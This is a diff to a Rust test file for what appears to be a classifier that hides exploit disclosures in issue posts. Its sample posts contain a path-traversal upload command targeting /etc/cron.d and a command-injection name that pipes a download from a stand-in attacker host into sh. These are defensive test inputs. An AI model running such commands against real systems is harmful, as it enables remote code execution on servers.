@@ -56,8 +56,9 @@ fn a_bland_title_over_a_full_exploit_is_hidden() {
         "Question about upload handling",
         "Hi, I was playing with the upload route and saw something odd. If I send this:\n\n```\n\
          curl -F 'file=@x.txt;filename=../../../../etc/cron.d/x' http://localhost:3000/upload\n```\n\n\
-         the file ends up outside of the upload folder, so anyone who can upload can overwrite any file of the server \
-         and run code. Is that intended?",
+         the file ends up outside of the upload folder. The file name is not sanitized, so an attacker who can upload \
+         can overwrite any file on the server and get remote code execution (path traversal). Version 2.3.1, default \
+         settings. Is that intended?",
     );
 }
 
@@ -163,8 +164,9 @@ fn an_edit_that_adds_an_exploit_turns_a_harmless_issue_into_a_disclosure() {
     let before = "The export hangs when the name of the project has a space.";
     left_alone(Ordinary, "Export hangs", before);
     let after = format!(
-        "{before}\n\nUpdate: it is worse. The name is passed to the shell. A project named \
-         `x; curl http://evil.example/a | sh` executes the command on the server:\n\n```\n\
+        "{before}\n\nUpdate: it is worse. The name is passed to the shell without escaping, so this is a command \
+         injection: an attacker who may name a project gets remote code execution on the server. A project named \
+         `x; curl http://evil.example/a | sh` executes the command:\n\n```\n\
          curl -X POST http://localhost/projects -d 'name=x; touch /tmp/pwned'\n```"
     );
     hidden("Export hangs", &after);
@@ -258,5 +260,5 @@ fn reasons_are_plain_words_strongest_first_and_never_the_post_s() {
 fn the_same_post_gets_the_same_judgement() {
     let post = ("SQL injection", "An attacker can read any table.");
     assert_eq!(judge(post.0, post.1), judge(post.0, post.1));
-    assert_eq!(builtin().version(), "concepts-1");
+    assert_eq!(builtin().version(), "linear-2");
 }
